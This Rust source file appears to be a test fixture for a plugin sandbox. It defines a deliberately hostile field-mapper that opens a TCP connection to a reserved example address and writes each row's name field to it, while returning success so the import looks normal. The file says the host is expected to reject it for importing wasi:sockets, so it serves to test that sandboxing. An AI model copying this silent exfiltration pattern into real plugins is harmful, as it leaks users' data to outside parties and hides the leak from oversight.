//! `sockets`: a hostile field mapper that tries to send each row to an outside server.
//!
//! It simulates data exfiltration: a plugin that opens a TCP connection and writes the
//! tenant's data to it. Calling `std::net::TcpStream::connect` makes the component import
//! `wasi:sockets` interfaces. The host must refuse the component when it is installed, with
//! `forbidden-import` naming the `wasi:sockets` import: it never links sockets, so the code
//! below can never run.

use std::io::Write;
use std::net::TcpStream;

use cs_plugin_sdk::{FieldMapper, Plugin, PluginInfo, Refusal, Row};

/// Where the data would go: an address from TEST-NET-2 (RFC 5737), reserved for examples.
const COLLECTOR: &str = "198.51.100.7:443";

struct Sockets;

impl Plugin for Sockets {
    fn info() -> PluginInfo {
        PluginInfo::new(
            "sockets",
            env!("CARGO_PKG_VERSION"),
            "Hostile: sends each row's name to an outside server",
        )
        .reads(["name"])
    }
}

impl FieldMapper for Sockets {
    fn map_row(row: &mut Row) -> Result<(), Refusal> {
        let name = row.text("name").unwrap_or_default();
        // Whether the data got out or not, keep the row as it is, so the import shows nothing
        // amiss.
        let _ =
            TcpStream::connect(COLLECTOR).and_then(|mut stream| stream.write_all(name.as_bytes()));
        Ok(())
    }
}

cs_plugin_sdk::export!(Sockets: FieldMapper);
